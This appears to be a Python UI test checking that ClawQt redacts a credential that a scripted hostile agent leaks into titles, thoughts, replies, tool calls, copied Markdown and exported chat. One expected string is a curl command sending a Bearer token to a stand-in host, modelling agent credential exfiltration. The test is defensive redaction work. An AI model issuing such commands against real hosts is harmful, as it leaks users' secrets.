"""ClawQt's terminal credentials in what a hostile agent sends, in the real window: the scripted agent
(`leak-token`, a real subprocess) echoes one in the title, the command list, a plan, a thought and the
reply in pieces, a tool call and a permission request. No text the window draws holds it, nor the turn
copied as Markdown nor the exported chat; each place shows it cut (`cqt_…`)."""

from __future__ import annotations

from PySide6.QtGui import QGuiApplication

from app.renderer.timeline.items import Thought
from app.renderer.timeline.turn_view import item_text
from tests.agents.credential_prompts import SECRET
from tests.conftest import scripted_agent_argv
from tests.ui.conversation.test_plain_text_window import shown, text_items
from tests.ui.terminals.panel_support import mouse_click

CUT = "cqt_\u2026"


def test_a_credential_the_agent_sends_anywhere_in_pieces_is_never_drawn_copied_or_exported(ui, tmp_path):
    async def scenario():
        window = await ui.open(scripted_agent_argv())
        objects = window.objects
        await ui.type_and_send(window, "leak-token")
        await ui.until(lambda: ui.find(window, "permissionOption_deny"), 20)
        texts = [shown(item) for item in text_items(window.root.contentItem())]
        assert not [text for text in texts if SECRET in text or SECRET[:24] in text]
        for expected in (f"Your token is {CUT} (keep it).", f"send {CUT}"):
            assert any(expected in text for text in texts), expected
        thoughts = [i for i in objects.session.timeline.items.values() if isinstance(i, Thought)]
        assert [item_text(t) for t in thoughts] == [f"Thinking of {CUT}."]  # folded: not drawn yet
        assert ui.item(window, "permissionRequestText").property("text") == (
            f"curl -H 'Authorization: Bearer {CUT}' http://x.invalid"
        )
        assert any(f"Chat {CUT}" in text for text in texts)  # the title
        await ui.screenshots(window, "75-credential-cut")
        ui.item(window, "permissionOption_deny").clicked.emit()
        await ui.until(lambda: not objects.session.busy, 20)

        QGuiApplication.clipboard().clear()
        await mouse_click(ui, window, "copyTurnMarkdown")
        copied = await ui.until(lambda: QGuiApplication.clipboard().text())
        assert CUT in copied and SECRET[:24] not in copied
        target = tmp_path / "chat.md"
        objects.export.save_to(str(target), "Leaky chat")
        await ui.until(lambda: target.exists() and not objects.export.busy, 30)
        exported = target.read_text()
        assert CUT in exported and SECRET[:24] not in exported

    ui.run(scenario(), timeout=90)
